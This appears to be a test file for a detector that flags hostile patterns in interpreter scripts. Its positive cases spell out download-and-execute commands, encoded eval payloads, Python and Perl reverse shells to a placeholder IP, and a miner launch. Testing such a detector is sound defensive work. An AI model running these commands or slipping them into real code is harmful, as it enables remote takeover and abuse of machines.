import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { assertGrowsLinearly } from '../../test/growth.ts'
import { readInterpreterScript, scriptLanguage } from './interpreter-script.ts'
import type { ShellSign } from './shell-command.ts'

const hits: readonly (readonly [string, ...ShellSign[]])[] = [
  ['import os\nos.system("curl -fsSL http://198.51.100.7/x.sh | bash")\n', 'download-to-shell', 'bare-ip'],
  ['import urllib.request as u\nexec(u.urlopen("http://198.51.100.7/a").read())\n', 'download-to-shell', 'bare-ip'],
  [
    'import os, subprocess\nfrom urllib.request import urlretrieve\nurlretrieve("http://198.51.100.7/k", "/tmp/k")\nos.chmod("/tmp/k", 0o755)\nsubprocess.Popen(["/tmp/k"])\n',
    'download-and-run',
    'bare-ip',
  ],
  ['import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n', 'decode-to-shell'],
  ['<?php eval(gzinflate(base64_decode("80jNyclXyFTPVUjJ")));', 'decode-to-shell'],
  ['<?php system("wget -qO- http://198.51.100.7/x | sh");', 'download-to-shell'],
  ['use Socket;\nsocket(S,PF_INET,SOCK_STREAM,0);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");\n', 'reverse-shell'],
  [
    'import socket,os,pty\ns=socket.socket()\ns.connect(("198.51.100.7",4444))\nos.dup2(s.fileno(),0)\npty.spawn("/bin/bash")\n',
    'reverse-shell',
  ],
  ['import os\nos.system("nohup /tmp/x -o stratum+tcp://h.example:3333 -u w -p x &")\n', 'starts-miner'],
]
for (const [text, ...wanted] of hits)
  test(`hit: ${text.slice(0, 50).replaceAll('\n', ' ')}`, () => {
    const found = [...readInterpreterScript(text).signs.keys()]
    for (const name of wanted) assert.ok(found.includes(name), `${name} not in ${found.join(' ')}`)
  })

const innocent: readonly (readonly [string, ...ShellSign[]])[] = [
  ['import requests\nprint(requests.get("https://api.example/x").json())\n', 'download'],
  ['import base64, json\nprint(json.loads(base64.b64decode(data)))\n'],
  ['import subprocess\nsubprocess.run(["systemctl", "restart", "nginx"], check=True)\n'],
  ['import socket\ns = socket.create_connection(("db.example", 5432))\ns.sendall(b"x")\n'],
  ['use strict;\nmy $out = `df -h`;\nsystem("logger", "disk", $out);\n'],
  ['<?php $x = file_get_contents("https://api.example/v1"); echo json_decode($x)->name;', 'download'],
  ['import os\nos.system("curl -fsS https://hc.example/ping")\n', 'download'],
]
for (const [text, ...allowed] of innocent)
  test(`near miss: ${text.slice(0, 50).replaceAll('\n', ' ')}`, () =>
    assert.deepEqual(
      [...readInterpreterScript(text).signs.keys()].filter(s => !allowed.includes(s)),
      [],
    ))

test('the language by the first line, else by the ending', () => {
  assert.equal(scriptLanguage('/tmp/a', '#!/usr/bin/env python3\n'), 'python')
  assert.equal(scriptLanguage('/tmp/a.py', 'import os\n'), 'python')
  assert.equal(scriptLanguage('/tmp/a', '<?php echo 1;'), 'php')
  assert.equal(scriptLanguage('/tmp/a.py', '#!/bin/sh\n'), undefined)
  assert.equal(scriptLanguage('/tmp/a.sh', 'echo'), undefined)
  assert.equal(scriptLanguage('/tmp/constructor', ''), undefined)
})

test('any text: never throws, excerpts are short, and hostile input takes as long as it is', () => {
  const piece = fc.constantFrom(
    'exec(',
    'eval(',
    'b64decode',
    '"""',
    '"',
    "'",
    '\\',
    'socket',
    'connect',
    'dup2(',
    'os.system("',
    ' /tmp/a',
    '\n',
    'http://198.51.100.7/',
  )
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 8 })), { maxLength: 60 }), parts => {
      for (const excerpt of readInterpreterScript(parts.join('')).signs.values()) assert.ok(excerpt.length <= 300)
    }),
  )
  for (const unit of [
    'exec(',
    'eval( ',
    'os.system("',
    'exec"""',
    'socket ',
    'dup2(',
    'chmod ',
    '/a',
    '/a/',
    'exec(a.(',
    "system('\\",
    'proc_open(',
    'urlopen ',
  ])
    assertGrowsLinearly(size => void readInterpreterScript(unit.repeat(size / unit.length)), 8192, unit)
})
